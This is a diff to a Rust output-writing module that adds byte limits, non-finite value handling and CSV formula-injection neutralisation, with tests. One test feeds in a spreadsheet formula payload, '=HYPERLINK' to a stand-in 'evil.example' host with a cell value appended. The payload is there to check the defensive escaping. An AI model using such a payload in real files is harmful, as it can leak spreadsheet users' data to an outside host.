@@ -2,6 +2,11 @@
 //!
 //! Every sink writes through a [`PendingFile`]: nothing appears at the sink's path until the
 //! run has succeeded, and an earlier output there is replaced whole or not at all.
+//!
+//! What the model returns is hostile until written safely ([`OutputRules`]): a NaN or infinity
+//! is refused or written as null as `[emit.<output>] non-finite` says, the bytes written are
+//! bounded by `limits.output-bytes`, and a text cell of the model's that a spreadsheet would
+//! read as a formula is written with a leading `'` (CSV only).
 
 use std::fs::File;
 use std::io::BufWriter;
@@ -15,8 +20,9 @@ use datafusion::arrow::array::{
 use datafusion::arrow::datatypes::{DataType, Field, Schema, SchemaRef};
 use datafusion::parquet::arrow::ArrowWriter;
 
-use crate::data::{Batch, ColumnValues, DataError};
+use crate::data::{Batch, Column, ColumnValues, DataError, NonFiniteAt};
 use crate::grant::OutputGrant;
+use crate::policy::{Limits, NonFinite};
 use crate::source::arrow_type;
 
 /// The sink a grant names, chosen by its extension.
@@ -26,15 +32,24 @@ pub enum Sink {
 }
 
 impl Sink {
-    pub fn create(grant: &OutputGrant, key_columns: &[String]) -> Result<Sink, DataError> {
+    pub fn create(
+        grant: &OutputGrant,
+        key_columns: &[String],
+        limits: &Limits,
+    ) -> Result<Sink, DataError> {
+        let rules = OutputRules::new(grant, key_columns, limits);
         let extension = grant
             .sink
             .extension()
             .and_then(|e| e.to_str())
             .map(str::to_ascii_lowercase);
         match extension.as_deref() {
-            Some("csv") => Ok(Sink::Csv(CsvSink::create(grant, key_columns)?)),
-            Some("parquet") => Ok(Sink::Parquet(ParquetSink::create(grant, key_columns)?)),
+            Some("csv") => Ok(Sink::Csv(CsvSink::create(grant, key_columns, rules)?)),
+            Some("parquet") => Ok(Sink::Parquet(ParquetSink::create(
+                grant,
+                key_columns,
+                rules,
+            )?)),
             _ => Err(DataError::SinkFormat {
                 path: grant.sink.clone(),
             }),
@@ -56,6 +71,135 @@ impl Sink {
             Sink::Csv(sink) => sink.finish(),
             Sink::Parquet(sink) => sink.finish(),
         }
+    }
+}
+
+/// What every sink checks and counts, whatever its format.
+pub struct OutputRules {
+    output: String,
+    path: PathBuf,
+    /// The policy's `key` columns (row mode): the consumer's own data, written as it came.
+    key_names: Vec<String>,
+    /// Leading batch columns that the host put there (partition mode's partition key): the
+    /// consumer's own data too. The model's columns follow.
+    host_columns: usize,
+    non_finite: NonFinite,
+    max_bytes: u64,
+    bytes: u64,
+    /// Rows written so far: the next row is `rows + 1`, counted from 1.
+    rows: u64,
+}
+
+impl OutputRules {
+    pub fn new(grant: &OutputGrant, key_columns: &[String], limits: &Limits) -> Self {
+        OutputRules {
+            output: grant.name.to_string(),
+            path: grant.sink.clone(),
+            key_names: key_columns.to_vec(),
+            host_columns: grant.partition_key.len(),
+            non_finite: grant.non_finite,
+            max_bytes: limits.output_bytes.bytes(),
+            bytes: 0,
+            rows: 0,
+        }
+    }
+
+    /// Counts `bytes` more against `limits.output-bytes`, or refuses them.
+    fn count(&mut self, bytes: u64) -> Result<(), DataError> {
+        let total = self.bytes.saturating_add(bytes);
+        if total > self.max_bytes {
+            return Err(DataError::OutputBytes {
+                output: self.output.clone(),
+                path: self.path.clone(),
+                limit: crate::units::ByteSize(self.max_bytes),
+            });
+        }
+        self.bytes = total;
+        Ok(())
+    }
+
+    /// Whether the batch's column at `index` is the model's (and so hostile until checked).
+    fn is_models(&self, index: usize) -> bool {
+        index >= self.host_columns
+    }
+
+    /// Under `non-finite = "refuse"`, the first NaN or infinity in the model's columns, as an
+    /// error naming the output, column, row and the row's key. Null rows hold placeholders and
+    /// are not looked at.
+    fn check_finite(&self, keys: &[Vec<String>], batch: &Batch) -> Result<(), DataError> {
+        if self.non_finite == NonFinite::Null {
+            return Ok(());
+        }
+        for column in batch.columns.iter().skip(self.host_columns) {
+            let found = (0..batch.num_rows).find_map(|row| {
+                let valid = column.validity.get(row).copied().unwrap_or(true);
+                let value = float_at(&column.values, row)?;
+                (valid && !value.is_finite()).then_some((row, value))
+            });
+            if let Some((row, value)) = found {
+                return Err(DataError::NonFinite {
+                    output: self.output.clone(),
+                    path: self.path.clone(),
+                    at: Box::new(NonFiniteAt {
+                        column: column.name.clone(),
+                        row: self.rows + row as u64 + 1,
+                        key: self.key_of(keys, batch, row),
+                        value: value.to_string(),
+                    }),
+                });
+            }
+        }
+        Ok(())
+    }
+
+    /// ` (id=r11)`: the row's key values or partition key, to find the row in the consumer's
+    /// own table; empty when there are none.
+    fn key_of(&self, keys: &[Vec<String>], batch: &Batch, row: usize) -> String {
+        let mut parts: Vec<String> = Vec::new();
+        if let Some(key) = keys.get(row) {
+            for (name, value) in self.key_names.iter().zip(key) {
+                parts.push(format!("{name}={value}"));
+            }
+        }
+        for column in batch.columns.iter().take(self.host_columns) {
+            parts.push(format!("{}={}", column.name, column.values.json_value(row)));
+        }
+        if parts.is_empty() {
+            return String::new();
+        }
+        // The consumer's own values, but shown on a terminal: no control characters.
+        format!(" ({})", crate::sandbox::sanitize(&parts.join(", "), 200))
+    }
+
+    /// Whether the value at `row` of the batch's column at `index` is written as null: null
+    /// in the batch, or a model's NaN or infinity that `check_finite` let through because the
+    /// policy says `non-finite = "null"`.
+    fn is_null(&self, index: usize, column: &Column, row: usize) -> bool {
+        let valid = column.validity.get(row).copied().unwrap_or(true);
+        !valid
+            || (self.is_models(index)
+                && float_at(&column.values, row).is_some_and(|value| !value.is_finite()))
+    }
+}
+
+/// The value at `row` of a float column, widened; `None` for other types.
+fn float_at(values: &ColumnValues, row: usize) -> Option<f64> {
+    match values {
+        ColumnValues::Float64(v) => v.get(row).copied(),
+        ColumnValues::Float32(v) => v.get(row).copied().map(f64::from),
+        _ => None,
+    }
+}
+
+/// A model's text cell that a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, or a
+/// tab or carriage return before one), with a leading `'` so that it is shown as text: OWASP's
+/// advice against CSV injection. The output is opened beside the consumer's keys, so a formula
+/// there (`=HYPERLINK(...)`) could send them anywhere.
+fn neutralise(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
     }
 }
 
@@ -181,12 +325,22 @@ pub struct CsvSink {
     path: PathBuf,
     writer: csv::Writer<BufWriter<File>>,
     pending: PendingFile,
-    rows_written: u64,
+    rules: OutputRules,
     row: Vec<String>,
 }
 
+/// The bytes of a CSV record as counted against `limits.output-bytes`: every cell's text and
+/// one separator or line end after each (quotes the writer may add are not counted).
+fn record_bytes(cells: &[impl AsRef<str>]) -> u64 {
+    cells.iter().map(|c| c.as_ref().len() as u64 + 1).sum()
+}
+
 impl CsvSink {
-    pub fn create(grant: &OutputGrant, key_columns: &[String]) -> Result<Self, DataError> {
+    pub fn create(
+        grant: &OutputGrant,
+        key_columns: &[String],
+        mut rules: OutputRules,
+    ) -> Result<Self, DataError> {
         let path = grant.sink.clone();
         let write_error = |source| DataError::Write {
             path: path.clone(),
@@ -200,6 +354,7 @@ impl CsvSink {
             .chain(grant.partition_key.iter().map(|c| c.name.as_str()))
             .chain(grant.columns.iter().map(|c| c.name.as_str()))
             .collect();
+        rules.count(record_bytes(&header))?;
         writer
             .write_record(&header)
             .map_err(|e| write_error(std::io::Error::other(e)))?;
@@ -207,37 +362,49 @@ impl CsvSink {
             path,
             writer,
             pending,
-            rows_written: 0,
+            rules,
             row: Vec::new(),
         })
     }
 
     pub fn rows_written(&self) -> u64 {
-        self.rows_written
+        self.rules.rows
     }
 
-    /// Appends the rows of a validated output batch, each preceded by its key values.
+    /// Appends the rows of a validated output batch, each preceded by its key values. Key and
+    /// partition columns are the consumer's own values and are written as they came; the
+    /// model's text cells are neutralised ([`neutralise`]).
     pub fn write(&mut self, keys: &[Vec<String>], batch: &Batch) -> Result<(), DataError> {
+        self.rules.check_finite(keys, batch)?;
         for row in 0..batch.num_rows {
             self.row.clear();
             if let Some(key) = keys.get(row) {
                 self.row.extend(key.iter().cloned());
             }
-            for column in &batch.columns {
-                let valid = column.validity.get(row).copied().unwrap_or(true);
-                self.row.push(if valid {
-                    format_cell(&column.values, row)
-                } else {
+            for (index, column) in batch.columns.iter().enumerate() {
+                let cell = if self.rules.is_null(index, column, row) {
                     String::new()
-                });
+                } else {
+                    format_cell(&column.values, row)
+                };
+                self.row.push(
+                    if self.rules.is_models(index) && matches!(column.values, ColumnValues::Text(_))
+                    {
+                        neutralise(cell)
+                    } else {
+                        cell
+                    },
+                );
             }
+            // Counted before it is written: a flood stops at the limit, not after it.
+            self.rules.count(record_bytes(&self.row))?;
             self.writer
                 .write_record(&self.row)
                 .map_err(|e| DataError::Write {
                     path: self.path.clone(),
                     source: std::io::Error::other(e),
                 })?;
-            self.rows_written += 1;
+            self.rules.rows += 1;
         }
         Ok(())
     }
@@ -290,10 +457,24 @@ pub struct ParquetSink {
     schema: SchemaRef,
     writer: ArrowWriter<File>,
     pending: PendingFile,
+    rules: OutputRules,
+}
+
+/// The bytes of a column's values as counted against `limits.output-bytes` in Parquet: their
+/// size before encoding (8 per 64-bit value, 4 per float32, 1 per boolean, text as its bytes).
+fn values_bytes(values: &ColumnValues) -> u64 {
+    match values {
+        ColumnValues::Text(v) => v.byte_len() as u64,
+        other => other.byte_size() as u64,
+    }
 }
 
 impl ParquetSink {
-    pub fn create(grant: &OutputGrant, key_columns: &[String]) -> Result<Self, DataError> {
+    pub fn create(
+        grant: &OutputGrant,
+        key_columns: &[String],
+        rules: OutputRules,
+    ) -> Result<Self, DataError> {
         let path = grant.sink.clone();
         let write_error = |source| DataError::Write {
             path: path.clone(),
@@ -319,10 +500,17 @@ impl ParquetSink {
             schema,
             writer,
             pending,
+            rules,
         })
     }
 
+    /// Appends a validated output batch. Parquet cells are typed, so no text is neutralised:
+    /// nothing reads a Parquet string as a formula.
     pub fn write(&mut self, keys: &[Vec<String>], batch: &Batch) -> Result<(), DataError> {
+        self.rules.check_finite(keys, batch)?;
+        let key_bytes: u64 = keys.iter().flatten().map(|k| k.len() as u64).sum();
+        let value_bytes: u64 = batch.columns.iter().map(|c| values_bytes(&c.values)).sum();
+        self.rules.count(key_bytes.saturating_add(value_bytes))?;
         let key_count = self
             .schema
             .fields()
@@ -336,8 +524,9 @@ impl ParquetSink {
                 .collect();
             arrays.push(Arc::new(values));
         }
-        for column in &batch.columns {
-            let valid = |row: usize| column.validity.get(row).copied().unwrap_or(true);
+        let rules = &self.rules;
+        for (index, column) in batch.columns.iter().enumerate() {
+            let valid = |row: usize| !rules.is_null(index, column, row);
             let array: ArrayRef = match &column.values {
                 ColumnValues::Float64(v) => Arc::new(nullable(v, valid).collect::<Float64Array>()),
                 ColumnValues::Float32(v) => Arc::new(nullable(v, valid).collect::<Float32Array>()),
@@ -364,7 +553,9 @@ impl ParquetSink {
         self.writer.write(&record).map_err(|e| DataError::Write {
             path: self.path.clone(),
             source: std::io::Error::other(e),
-        })
+        })?;
+        self.rules.rows += batch.num_rows as u64;
+        Ok(())
     }
 
     pub fn finish(self) -> Result<PathBuf, DataError> {
@@ -385,7 +576,206 @@ impl ParquetSink {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::data::TextValues;
+    use crate::manifest::{ColumnSpec, ColumnType};
+    use datafusion::arrow::array::Array;
     use std::io::Write;
+
+    fn name(text: &str) -> crate::names::Name {
+        crate::names::Name::try_from(text.to_string()).unwrap()
+    }
+
+    /// An output `results` of a float `p` and a text `label`, with key `id`.
+    fn grant(sink: &Path, non_finite: NonFinite) -> OutputGrant {
+        OutputGrant {
+            name: name("results"),
+            sink: sink.to_owned(),
+            columns: vec![
+                ColumnSpec {
+                    name: name("p"),
+                    ty: ColumnType::Float64,
+                },
+                ColumnSpec {
+                    name: name("label"),
+                    ty: ColumnType::Text,
+                },
+            ],
+            partition_key: Vec::new(),
+            non_finite,
+        }
+    }
+
+    fn batch(p: Vec<f64>, labels: &[&str]) -> Batch {
+        Batch {
+            num_rows: p.len(),
+            columns: vec![
+                Column {
+                    name: "p".into(),
+                    values: ColumnValues::Float64(p),
+                    validity: Vec::new(),
+                },
+                Column {
+                    name: "label".into(),
+                    values: ColumnValues::Text(
+                        TextValues::from_strs(labels.iter().copied()).unwrap(),
+                    ),
+                    validity: Vec::new(),
+                },
+            ],
+        }
+    }
+
+    fn keys(ids: &[&str]) -> Vec<Vec<String>> {
+        ids.iter().map(|id| vec![id.to_string()]).collect()
+    }
+
+    fn open_sink(path: &Path, non_finite: NonFinite, limits: &Limits) -> Sink {
+        Sink::create(&grant(path, non_finite), &["id".to_string()], limits).unwrap()
+    }
+
+    #[test]
+    fn a_nan_is_refused_by_default_naming_output_column_row_and_key() {
+        let dir = tempfile::tempdir().unwrap();
+        for file in ["out.csv", "out.parquet"] {
+            let path = dir.path().join(file);
+            let mut sink = open_sink(&path, NonFinite::Refuse, &Limits::default());
+            sink.write(&keys(&["a", "b"]), &batch(vec![0.5, 0.25], &["x", "y"]))
+                .unwrap();
+            let error = sink
+                .write(&keys(&["c", "d"]), &batch(vec![0.5, f64::NAN], &["x", "y"]))
+                .unwrap_err()
+                .to_string();
+            assert_eq!(
+                error,
+                format!(
+                    "output `results` ({}) column `p`, row 4 (id=d): the model returned NaN; refused by [emit.results] non-finite = \"refuse\" (the default); set non-finite = \"null\" to write it as null",
+                    path.display()
+                )
+            );
+            let error = sink
+                .write(&keys(&["e"]), &batch(vec![f64::NEG_INFINITY], &["x"]))
+                .unwrap_err()
+                .to_string();
+            assert!(
+                error.contains("row 3 (id=e): the model returned -inf"),
+                "{error}"
+            );
+            drop(sink);
+            assert!(!path.exists());
+        }
+    }
+
+    #[test]
+    fn a_nan_can_be_written_as_null() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("out.csv");
+        let mut sink = open_sink(&path, NonFinite::Null, &Limits::default());
+        sink.write(
+            &keys(&["a", "b", "c"]),
+            &batch(vec![f64::NAN, 0.5, f64::INFINITY], &["x", "y", "z"]),
+        )
+        .unwrap();
+        sink.finish().unwrap();
+        assert_eq!(
+            std::fs::read_to_string(&path).unwrap(),
+            "id,p,label\na,,x\nb,0.5,y\nc,,z\n"
+        );
+
+        let path = dir.path().join("out.parquet");
+        let mut sink = open_sink(&path, NonFinite::Null, &Limits::default());
+        sink.write(&keys(&["a", "b"]), &batch(vec![f64::NAN, 0.5], &["x", "y"]))
+            .unwrap();
+        sink.finish().unwrap();
+        let reader =
+            datafusion::parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new(
+                File::open(&path).unwrap(),
+            )
+            .unwrap()
+            .build()
+            .unwrap();
+        let record = reader.into_iter().next().unwrap().unwrap();
+        let p = record
+            .column(1)
+            .as_any()
+            .downcast_ref::<Float64Array>()
+            .unwrap();
+        assert!(p.is_null(0));
+        assert_eq!(p.value(1), 0.5);
+    }
+
+    #[test]
+    fn model_text_that_a_spreadsheet_would_run_is_neutralised() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("out.csv");
+        let mut sink = open_sink(&path, NonFinite::Refuse, &Limits::default());
+        let labels = [
+            "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")",
+            "+1",
+            "-2",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "ok=1",
+            "",
+        ];
+        // Keys are the consumer's own values and are written as they are.
+        let ids = ["=k1", "k2", "k3", "k4", "k5", "k6", "k7", "k8"];
+        sink.write(&keys(&ids), &batch(vec![-0.5; 8], &labels))
+            .unwrap();
+        sink.finish().unwrap();
+        let rows: Vec<Vec<String>> = csv::Reader::from_path(&path)
+            .unwrap()
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect();
+        let written: Vec<&str> = rows.iter().map(|r| r[2].as_str()).collect();
+        assert_eq!(
+            written,
+            [
+                "'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")",
+                "'+1",
+                "'-2",
+                "'@SUM(A1)",
+                "'\t=1",
+                "'\r=1",
+                "ok=1",
+                "",
+            ]
+        );
+        assert_eq!(rows[0][0], "=k1");
+        // Numbers are not text: a negative score stays a number.
+        assert_eq!(rows[0][1], "-0.5");
+    }
+
+    #[test]
+    fn output_bytes_stop_a_flood_with_a_named_error() {
+        let dir = tempfile::tempdir().unwrap();
+        let limits = Limits {
+            output_bytes: crate::units::ByteSize(100),
+            ..Limits::default()
+        };
+        for file in ["out.csv", "out.parquet"] {
+            let path = dir.path().join(file);
+            let mut sink = open_sink(&path, NonFinite::Refuse, &limits);
+            // A few small rows fit.
+            sink.write(&keys(&["a"]), &batch(vec![0.5], &["x"]))
+                .unwrap();
+            let flood = "y".repeat(200);
+            let error = sink
+                .write(&keys(&["b"]), &batch(vec![0.5], &[&flood]))
+                .unwrap_err()
+                .to_string();
+            assert_eq!(
+                error,
+                format!(
+                    "output `results` ({}): the run would write more than 100 B (limits.output-bytes) and was stopped",
+                    path.display()
+                )
+            );
+        }
+        // The CSV count: the cells and a separator or line end after each.
+        assert_eq!(record_bytes(&["id", "p", "label"]), 11);
+    }
 
     #[test]
     fn a_pending_file_appears_only_when_committed() {
